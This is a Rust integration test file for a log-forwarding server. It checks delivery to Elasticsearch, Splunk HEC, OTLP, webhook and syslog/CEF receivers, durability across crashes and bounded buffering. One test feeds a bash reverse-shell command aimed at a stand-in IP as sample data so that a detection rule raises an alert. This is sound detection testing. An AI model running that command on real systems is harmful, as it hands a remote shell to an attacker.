//! Forwarding outputs, end to end with real processes: one crowsnest server (A) forwards to the
//! compatible endpoints of another (B) on other ports — Elasticsearch `_bulk`, Splunk HEC,
//! OTLP/HTTP (protobuf and JSON), a webhook into the NDJSON endpoint, syslog RFC 5424 over TCP and
//! CEF over UDP — and to a real rsyslog. A destination that is down, and a `kill -9` of the
//! forwarding server, lose nothing.

mod common;

use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::{free_port, Rsyslog, Server};
use serde_json::{json, Value};

fn start_with_config(dir: &Path, port: u16, config: &str, extra: &[String]) -> Server {
    std::fs::create_dir_all(dir).expect("mkdir");
    let path = dir.join("crowsnest.toml");
    std::fs::write(&path, config).expect("write config");
    let mut args = vec!["--config".to_string(), path.display().to_string()];
    args.extend_from_slice(extra);
    Server::start_with(&dir.join("data"), port, &args)
}

fn ingest(server: &Server, lines: &[Value]) {
    let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let response = server
        .agent()
        .post(&format!("{}/api/v1/ingest/ndjson?source=app", server.url))
        .set("Authorization", &format!("Bearer {}", server.token))
        .set("Content-Type", "application/x-ndjson")
        .send_string(&body)
        .expect("ingest");
    assert_eq!(response.status(), 200);
}

fn events(route: &str, count: usize) -> Vec<Value> {
    (0..count)
        .map(|i| {
            json!({
                "@timestamp": "2026-11-24T01:00:00Z",
                "message": format!("forwarded {route} number {i}"),
                "labels": {"route": route},
                "user": {"name": "alice"},
                "host": {"name": "node-7"},
                "kubernetes": {"namespace": "prod", "pod": {"name": "web-1"}},
            })
        })
        .collect()
}

/// Waits until `query` finds `count` events on `server` and returns them.
fn wait_for(server: &Server, query: &str, count: usize) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let found = server.search_limit(query, 1000);
        let total = found["total"].as_u64().unwrap_or(0) as usize;
        if total >= count {
            assert_eq!(total, count, "`{query}` found more than expected: {found}");
            return found["hits"].as_array().cloned().unwrap_or_default();
        }
        assert!(
            Instant::now() < deadline,
            "`{query}` found {total} of {count} events; outputs of the sender: see above"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn outputs(server: &Server) -> Vec<Value> {
    server.get("/api/v1/outputs").expect("outputs")["outputs"]
        .as_array()
        .cloned()
        .expect("outputs array")
}

#[test]
fn forwards_to_each_compatible_endpoint_of_another_server() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (syslog_tcp, syslog_udp) = (free_port(), free_port());
    let receiver = Server::start_with(
        &dir.path().join("b"),
        free_port(),
        &[
            "--syslog-tcp".into(),
            format!("127.0.0.1:{syslog_tcp}"),
            "--syslog-udp".into(),
            format!("127.0.0.1:{syslog_udp}"),
        ],
    );
    let (b, token) = (&receiver.url, &receiver.token);
    let config = format!(
        r#"
[[outputs]]
name = "es"
query = "labels.route:es"
type = "elasticsearch"
url = "{b}/es"
bearer_token = "{token}"

[[outputs]]
name = "hec"
query = "labels.route:hec"
type = "splunk_hec"
url = "{b}"
token = "{token}"

[[outputs]]
name = "otlp"
query = "labels.route:otlp"
type = "otlp"
url = "{b}/v1/logs"
headers = {{ Authorization = "Bearer {token}" }}

[[outputs]]
name = "otlp-json"
query = "labels.route:otlpjson"
type = "otlp"
encoding = "json"
url = "{b}/v1/logs"
headers = {{ Authorization = "Bearer {token}" }}

[[outputs]]
name = "webhook"
query = "labels.route:webhook"
type = "webhook"
url = "{b}/api/v1/ingest/ndjson?source=webhook"
headers = {{ Authorization = "Bearer {token}" }}
secret = "s3cret"

[[outputs]]
name = "syslog"
query = "labels.route:syslog"
type = "syslog"
address = "127.0.0.1:{syslog_tcp}"
transport = "tcp"
format = "rfc5424"

[[outputs]]
name = "cef"
query = "labels.route:cef"
type = "syslog"
address = "127.0.0.1:{syslog_udp}"
transport = "udp"
format = "cef"
"#
    );
    let sender = start_with_config(&dir.path().join("a"), free_port(), &config, &[]);
    let routes = [
        "es", "hec", "otlp", "otlpjson", "webhook", "syslog", "cef", "nowhere",
    ];
    for route in routes {
        ingest(&sender, &events(route, 20));
    }

    // The JSON-carrying outputs keep the event's fields.
    for route in ["es", "hec", "webhook"] {
        let hits = wait_for(&receiver, &format!("labels.route:{route}"), 20);
        for hit in &hits {
            assert_eq!(hit["user"]["name"], "alice", "{route}: {hit}");
            assert_eq!(hit["kubernetes"]["namespace"], "prod", "{route}: {hit}");
            assert!(
                hit["message"]
                    .as_str()
                    .is_some_and(|m| m.starts_with(&format!("forwarded {route} number"))),
                "{route}: {hit}"
            );
        }
        let ids: HashSet<_> = hits.iter().map(|h| h["event"]["id"].clone()).collect();
        assert_eq!(ids.len(), 20, "{route}: each event once, with its id");
    }
    // OTLP: body → message, resource attributes → Kubernetes identity.
    for route in ["otlp", "otlpjson"] {
        let hits = wait_for(
            &receiver,
            &format!("event.module:otel AND \"forwarded {route} number\""),
            20,
        );
        assert_eq!(hits[0]["kubernetes"]["namespace"], "prod", "{}", hits[0]);
        assert_eq!(hits[0]["kubernetes"]["pod"]["name"], "web-1", "{}", hits[0]);
    }
    // Syslog: the event JSON (RFC 5424) or a CEF line arrives as the message.
    wait_for(
        &receiver,
        "event.module:syslog AND \"forwarded syslog number\"",
        20,
    );
    let cef = wait_for(&receiver, "event.module:syslog AND CEF", 20);
    assert!(
        cef.iter().all(|h| h["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("CEF:0|crowsnest|crowsnest|"))),
        "{}",
        cef[0]
    );
    // Nothing that no output selected went anywhere.
    assert_eq!(
        receiver.search("nowhere")["total"],
        0,
        "an event no output selected was forwarded"
    );
    let report = outputs(&sender);
    assert_eq!(report.len(), 7);
    for output in &report {
        assert_eq!(output["delivered"], 20, "{output}");
        assert_eq!(output["last_error"], Value::Null, "{output}");
    }
    let metrics = sender
        .agent()
        .get(&format!("{}/metrics", sender.url))
        .set("Authorization", &format!("Bearer {}", sender.token))
        .call()
        .expect("metrics")
        .into_string()
        .expect("text");
    assert!(
        metrics.contains(r#"crowsnest_output_events_total{output="es",result="delivered"} 20"#),
        "{metrics}"
    );
}

#[test]
fn a_destination_that_is_down_gets_everything_once_it_is_back_even_after_a_crash() {
    let dir = tempfile::tempdir().expect("tempdir");
    let receiver_port = free_port();
    // The receiver's token is fixed in advance: the sender needs it before the receiver runs.
    let receiver_dir = dir.path().join("b");
    let config = format!(
        r#"
[[outputs]]
name = "later"
type = "webhook"
url = "http://127.0.0.1:{receiver_port}/api/v1/ingest/ndjson?source=late"
headers = {{ Authorization = "Bearer {{TOKEN}}" }}
retry_initial_ms = 100
retry_max_ms = 400
"#
    );
    // Start the receiver once to learn its token, then stop it: the destination is down.
    let mut receiver = Server::start(&receiver_dir.join("data"), receiver_port);
    let token = receiver.token.clone();
    receiver.kill9();
    let config = config.replace("{TOKEN}", &token);
    let mut sender = start_with_config(&dir.path().join("a"), free_port(), &config, &[]);
    for round in 0..3 {
        ingest(&sender, &events(&format!("late{round}"), 100));
    }
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let report = outputs(&sender);
        if report[0]["last_error"].is_string() {
            assert_eq!(report[0]["delivered"], 0);
            assert!(
                report[0]["lag_events"].as_u64().unwrap_or(0) >= 300,
                "{report:?}"
            );
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no delivery error reported: {report:?}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    // A crash while the destination is down: the undelivered events are still owed.
    sender.kill9();
    let mut sender = start_with_config(&dir.path().join("a"), sender.port, &config, &[]);
    ingest(&sender, &events("late3", 100));
    // A clean stop does not wait for a destination that is down; the events stay owed.
    let stopping = Instant::now();
    assert!(sender.terminate().success());
    assert!(
        stopping.elapsed() < Duration::from_secs(10),
        "shutdown waited {:?} for a down destination",
        stopping.elapsed()
    );
    let sender = start_with_config(&dir.path().join("a"), sender.port, &config, &[]);
    let receiver = Server::start(&receiver_dir.join("data"), receiver_port);
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut ids = HashSet::new();
    while ids.len() < 400 {
        assert!(
            Instant::now() < deadline,
            "{} of 400 events arrived; sender says {:?}",
            ids.len(),
            outputs(&sender)
        );
        std::thread::sleep(Duration::from_millis(300));
        let found = receiver.search_limit("labels.route:late*", 1000);
        ids = found["hits"]
            .as_array()
            .expect("hits")
            .iter()
            .map(|h| h["event"]["id"].as_str().unwrap_or_default().to_string())
            .collect();
    }
    let report = outputs(&sender);
    assert_eq!(report[0]["lag_events"], 0, "{report:?}");
    assert_eq!(report[0]["last_error"], Value::Null, "{report:?}");
}

#[test]
fn alerts_only_output_forwards_alerts_and_not_their_events() {
    let dir = tempfile::tempdir().expect("tempdir");
    let receiver = Server::start(&dir.path().join("b"), free_port());
    let config = format!(
        r#"
[[outputs]]
name = "alerts"
kinds = "alerts"
type = "elasticsearch"
url = "{}/es"
bearer_token = "{}"
"#,
        receiver.url, receiver.token
    );
    let sender = start_with_config(&dir.path().join("a"), free_port(), &config, &[]);
    // A reverse shell: the built-in pack raises an alert.
    ingest(
        &sender,
        &[json!({
            "@timestamp": "2026-11-24T01:00:00Z",
            "event": {"kind": "event", "dataset": "auditd.process", "module": "auditd",
                      "category": ["process"], "type": ["start"], "action": "executed"},
            "process": {"executable": "/bin/bash", "name": "bash",
                        "command_line": "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
                        "args": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]},
            "host": {"name": "node-1"},
            "user": {"name": "root", "id": "0"}
        })],
    );
    let hits = wait_for(&receiver, "event.kind:alert", 1);
    assert!(hits[0]["rule"]["name"].is_string(), "{}", hits[0]);
    assert_eq!(
        // The receiver's own searches are in its self-audit stream: not forwarded.
        receiver.search("* AND NOT event.kind:alert AND NOT event.dataset:crowsnest.audit AND NOT event.dataset:crowsnest.verify")
            ["total"],
        0,
        "only alerts are forwarded"
    );
}

fn rsyslogd() -> PathBuf {
    ["/usr/sbin/rsyslogd", "/sbin/rsyslogd"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
        .expect("rsyslogd (run scripts/setup-ecosystem.sh)")
}

/// A real rsyslog receives RFC 5424 over TCP and CEF over UDP and writes what it got to a file.
#[test]
fn rsyslog_receives_rfc5424_and_cef() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (tcp, udp) = (free_port(), free_port());
    let work = dir.path().join("rsyslog");
    std::fs::create_dir_all(&work).expect("mkdir");
    let out = work.join("received.log");
    let config_path = work.join("rsyslog.conf");
    std::fs::write(
        &config_path,
        format!(
            "global(workDirectory=\"{work}\")\n\
             module(load=\"imtcp\")\nmodule(load=\"imudp\")\n\
             input(type=\"imtcp\" address=\"127.0.0.1\" port=\"{tcp}\")\n\
             input(type=\"imudp\" address=\"127.0.0.1\" port=\"{udp}\")\n\
             template(name=\"raw\" type=\"string\" string=\"%app-name%|%hostname%|%syslogseverity-text%|%msg%\\n\")\n\
             *.* action(type=\"omfile\" file=\"{out}\" template=\"raw\")\n",
            work = work.display(),
            out = out.display(),
        ),
    )
    .expect("write config");
    let rsyslog = Rsyslog::start(&rsyslogd(), &config_path, &work);
    // Wait for rsyslog's TCP port.
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", tcp)).is_err() {
        assert!(Instant::now() < deadline, "rsyslogd did not listen");
        std::thread::sleep(Duration::from_millis(50));
    }
    let config = format!(
        r#"
[[outputs]]
name = "rsyslog-5424"
query = "labels.route:rsyslog"
type = "syslog"
address = "127.0.0.1:{tcp}"
transport = "tcp"
format = "rfc5424"

[[outputs]]
name = "rsyslog-cef"
query = "labels.route:rsyslog"
type = "syslog"
address = "127.0.0.1:{udp}"
transport = "udp"
format = "cef"
"#
    );
    let sender = start_with_config(&dir.path().join("a"), free_port(), &config, &[]);
    ingest(&sender, &events("rsyslog", 5));
    let deadline = Instant::now() + Duration::from_secs(30);
    let text = loop {
        let text = std::fs::read_to_string(&out).unwrap_or_default();
        if text.lines().count() >= 10 {
            break text;
        }
        assert!(Instant::now() < deadline, "rsyslog wrote: {text}");
        std::thread::sleep(Duration::from_millis(100));
    };
    drop(rsyslog);
    let lines: Vec<&str> = text.lines().collect();
    let json_lines: Vec<&str> = lines.iter().copied().filter(|l| l.contains("{")).collect();
    assert_eq!(json_lines.len(), 5, "{text}");
    for line in &json_lines {
        let mut parts = line.splitn(4, '|');
        assert_eq!(parts.next(), Some("crowsnest"), "{line}");
        assert_eq!(parts.next(), Some("node-7"), "{line}");
        assert_eq!(parts.next(), Some("info"), "{line}");
        let msg = parts.next().expect("msg").trim_start_matches('\u{feff}');
        let event: Value = serde_json::from_str(msg).expect("the message is the event JSON");
        assert_eq!(event["labels"]["route"], "rsyslog");
    }
    let cef_lines: Vec<&str> = lines
        .iter()
        .copied()
        .filter(|l| l.contains("CEF:0|crowsnest|crowsnest|"))
        .collect();
    assert_eq!(cef_lines.len(), 5, "{text}");
    assert!(
        cef_lines.iter().all(|l| l.contains("suser=alice")),
        "{text}"
    );
}

fn wal_bytes(server: &Server) -> u64 {
    server.get("/api/v1/health").expect("health")["wal"]["bytes"]
        .as_u64()
        .expect("wal bytes")
}

/// While a destination is down the WAL keeps its events, but never more than the output's
/// `max_buffer_bytes`: past that the oldest are dropped and counted, and ingest goes on.
#[test]
fn the_buffer_is_bounded_and_what_it_drops_is_counted() {
    let dir = tempfile::tempdir().expect("tempdir");
    let down = free_port();
    let config = |name: &str, max_buffer: u64| {
        format!(
            r#"
[pipeline]
wal_segment_bytes = 65536

[detect]
checkpoint_interval_secs = 1

# The test counts what the output delivers: no integrity verification event at start.
[integrity]
verify_interval_secs = 0

[[outputs]]
name = "{name}"
type = "webhook"
url = "http://127.0.0.1:{down}/hook"
retry_initial_ms = 50
retry_max_ms = 200
max_buffer_bytes = {max_buffer}
"#
        )
    };
    let keeping = start_with_config(
        &dir.path().join("keeping"),
        free_port(),
        &config("keeping", 1 << 30),
        &[],
    );
    let bounded = start_with_config(
        &dir.path().join("bounded"),
        free_port(),
        &config("bounded", 256 * 1024),
        &[],
    );
    for round in 0..10 {
        let batch = events(&format!("buffer{round}"), 300);
        ingest(&keeping, &batch);
        ingest(&bounded, &batch);
    }
    keeping.settle();
    bounded.settle();
    // The WAL is truncated when the indexer commits, and never past detection's checkpoint
    // (every second here): keep committing a little until the truncation has happened.
    let limit = 256 * 1024 + 3 * 65536;
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut tails = 0u64;
    let capped = loop {
        std::thread::sleep(Duration::from_millis(500));
        ingest(&keeping, &events("tail", 1));
        ingest(&bounded, &events("tail", 1));
        tails += 1;
        bounded.settle();
        std::thread::sleep(Duration::from_millis(300));
        let capped = wal_bytes(&bounded);
        if capped < limit {
            break capped;
        }
        assert!(
            Instant::now() < deadline,
            "the bounded output holds at most its buffer and a segment or two: {capped} bytes"
        );
    };
    keeping.settle();
    let kept = wal_bytes(&keeping);
    assert!(
        kept > 1_000_000,
        "the WAL holds the undelivered events: {kept} bytes (bounded: {capped})"
    );
    let total = 3000 + tails;
    // The destination comes back: the bounded output reports what it dropped, and delivers
    // the rest.
    let received = std::net::TcpListener::bind(("127.0.0.1", down)).expect("bind");
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = count.clone();
    std::thread::spawn(move || {
        use std::io::{BufRead, BufReader, Read, Write};
        for stream in received.incoming() {
            let Ok(stream) = stream else { continue };
            let counter = counter.clone();
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream);
                loop {
                    let mut length = 0usize;
                    let mut line = String::new();
                    loop {
                        line.clear();
                        if reader.read_line(&mut line).unwrap_or(0) == 0 {
                            return;
                        }
                        let lower = line.to_ascii_lowercase();
                        if let Some(v) = lower.strip_prefix("content-length:") {
                            length = v.trim().parse().unwrap_or(0);
                        }
                        if line == "\r\n" {
                            break;
                        }
                    }
                    let mut body = vec![0; length];
                    if reader.read_exact(&mut body).is_err() {
                        return;
                    }
                    let lines = body
                        .split(|b| *b == b'\n')
                        .filter(|l| !l.is_empty())
                        .count();
                    counter.fetch_add(lines, std::sync::atomic::Ordering::SeqCst);
                    let _ = reader
                        .get_mut()
                        .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n");
                }
            });
        }
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let keeping_report = outputs(&keeping);
        let bounded_report = outputs(&bounded);
        if keeping_report[0]["lag_events"] == 0 && bounded_report[0]["lag_events"] == 0 {
            assert_eq!(keeping_report[0]["delivered"], total, "{keeping_report:?}");
            assert_eq!(keeping_report[0]["dropped"], 0, "{keeping_report:?}");
            let delivered = bounded_report[0]["delivered"].as_u64().unwrap_or(0);
            let dropped = bounded_report[0]["dropped"].as_u64().unwrap_or(0);
            assert!(dropped > 0, "{bounded_report:?}");
            assert_eq!(delivered + dropped, total, "{bounded_report:?}");
            assert_eq!(
                count.load(std::sync::atomic::Ordering::SeqCst) as u64,
                total + delivered
            );
            break;
        }
        assert!(
            Instant::now() < deadline,
            "not delivered: {keeping_report:?} {bounded_report:?}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}
